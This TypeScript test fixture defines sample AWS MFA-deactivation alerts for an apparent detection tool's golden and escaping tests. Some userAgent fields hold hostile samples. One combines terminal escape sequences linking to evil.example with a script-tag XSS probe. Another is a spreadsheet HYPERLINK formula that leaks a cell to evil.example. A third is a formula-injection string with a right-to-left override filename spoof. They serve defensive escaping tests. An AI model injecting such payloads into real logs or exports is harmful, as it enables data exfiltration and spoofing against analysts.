// A fixed alert list for the golden and escaping tests, with hostile text where attackers can put it.

import type { Alert } from '../../model/index.ts';

const DEACTIVATE_RULE = {
  id: 'mfaguard-iam-deactivate-mfa-device',
  name: 'AWS IAM Deactivation of MFA Device',
  format: 'builtin',
  severity: 'medium',
  riskScore: 47,
  mitre: [
    {
      tactic: { id: 'TA0040', name: 'Impact' },
      technique: { id: 'T1531', name: 'Account Access Removal' },
      subtechnique: null,
    },
    {
      tactic: { id: 'TA0006', name: 'Credential Access' },
      technique: { id: 'T1556', name: 'Modify Authentication Process' },
      subtechnique: { id: 'T1556.006', name: 'Multi-Factor Authentication' },
    },
  ],
} as const;

function base(n: number): Omit<Alert, 'rule' | 'severity' | 'riskScore' | 'title' | 'actor' | 'target'> {
  return {
    id: `alert-${n}`,
    event: {
      id: `00000000-0000-4000-8000-00000000000${n}`,
      name: 'DeactivateMFADevice',
      source: 'iam.amazonaws.com',
      time: `2024-03-0${n}T10:15:3${n}Z`,
      outcome: 'success',
      errorCode: null,
      account: '111122223333',
      region: 'us-east-1',
      location: `AWSLogs/111122223333/CloudTrail/us-east-1/2024/03/0${n}/f${n}.json.gz`,
      index: n * 10,
    },
  };
}

export const FIXTURE_ALERTS: readonly Alert[] = [
  {
    ...base(1),
    rule: DEACTIVATE_RULE,
    severity: 'medium',
    riskScore: 47,
    title: 'alice.nguyen deactivated MFA of alice.nguyen',
    actor: {
      arn: 'arn:aws:iam::111122223333:user/alice.nguyen',
      type: 'IAMUser',
      userName: 'alice.nguyen',
      accessKeyId: 'ASIAEXAMPLE000000001',
      accessKeyKind: 'temporary',
      sourceIp: '198.51.100.23',
      userAgent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)',
      mfaAuthenticated: true,
      consoleSession: true,
    },
    target: { userName: 'alice.nguyen', serialNumber: 'arn:aws:iam::111122223333:mfa/alice-phone' },
    classification: 'rotation',
    reasons: [
      { code: 'self', message: 'the user removed their own device', weight: -10 },
      { code: 're-enrolled', message: 'a new device was enabled 4 minutes later', weight: -20 },
    ],
    vulnerabilityWindowSeconds: 240,
  },
  {
    ...base(2),
    rule: DEACTIVATE_RULE,
    severity: 'critical',
    riskScore: 91,
    title: 'ci-deploy deactivated MFA of bob.martin',
    actor: {
      arn: 'arn:aws:iam::111122223333:user/ci-deploy',
      type: 'IAMUser',
      userName: 'ci-deploy',
      accessKeyId: 'AKIAEXAMPLE000000002',
      accessKeyKind: 'long-term',
      sourceIp: '203.0.113.77',
      userAgent:
        'Boto3/1.34.11 \u001b]8;;http://evil.example\u0007click\u001b]8;;\u0007\u001b[2K\r\n<script>alert(1)</script>',
      mfaAuthenticated: null,
      consoleSession: false,
    },
    target: { userName: 'bob.martin', serialNumber: 'arn:aws:iam::111122223333:mfa/bob' },
    classification: 'suspicious',
    reasons: [
      { code: 'actor-not-target', message: 'ci-deploy removed MFA of another user', weight: 15 },
      { code: 'new-source-ip', message: 'source 203.0.113.77 never seen for ci-deploy', weight: 20 },
      { code: 'off-hours', message: 'outside working hours (02:14 UTC)', weight: 10 },
      { code: 'precursors', message: 'recon before: ListUsers, ListMFADevices', weight: 15 },
    ],
    related: [
      {
        eventId: 'recon-1',
        name: 'ListUsers',
        time: '2024-03-02T02:10:00Z',
        actor: 'ci-deploy',
        relation: 'precursor',
      },
    ],
    investigation: { 'user.name': 'ci-deploy', 'source.ip': '203.0.113.77' },
  },
  {
    ...base(3),
    rule: {
      id: 'mfaguard-root-mfa-removed',
      name: 'Root MFA removed',
      format: 'builtin',
      severity: 'critical',
      riskScore: 99,
      mitre: [],
    },
    severity: 'critical',
    riskScore: 99,
    title: 'root deactivated its own MFA',
    actor: {
      arn: 'arn:aws:iam::111122223333:root',
      type: 'Root',
      userName: 'root',
      accessKeyId: 'ASIAEXAMPLE000000003',
      accessKeyKind: 'temporary',
      sourceIp: '192.0.2.10',
      userAgent: '=HYPERLINK("http://evil.example/?d="&A1,"Click me")',
      mfaAuthenticated: true,
      consoleSession: true,
    },
    target: { userName: null, serialNumber: 'arn:aws:iam::111122223333:mfa/root-account-mfa-device' },
  },
  {
    ...base(4),
    event: {
      ...base(4).event,
      outcome: 'failure',
      errorCode: 'AccessDenied',
      account: '444455556666',
      region: 'eu-west-1',
    },
    rule: {
      id: 'mfaguard-iam-deactivate-mfa-attempt',
      name: 'Refused MFA deactivation attempt',
      format: 'builtin',
      severity: 'low',
      riskScore: 21,
      mitre: [],
    },
    severity: 'low',
    riskScore: 21,
    title: 'intern tried to deactivate MFA of carol',
    actor: {
      arn: 'arn:aws:iam::444455556666:user/intern',
      type: 'IAMUser',
      userName: 'intern',
      accessKeyId: 'AKIAEXAMPLE000000004',
      accessKeyKind: 'long-term',
      sourceIp: '2001:db8::1',
      userAgent: '  -2+3 @SUM(1)\u202egnp.exe',
      mfaAuthenticated: false,
      consoleSession: false,
    },
    target: { userName: 'carol', serialNumber: null },
  },
];
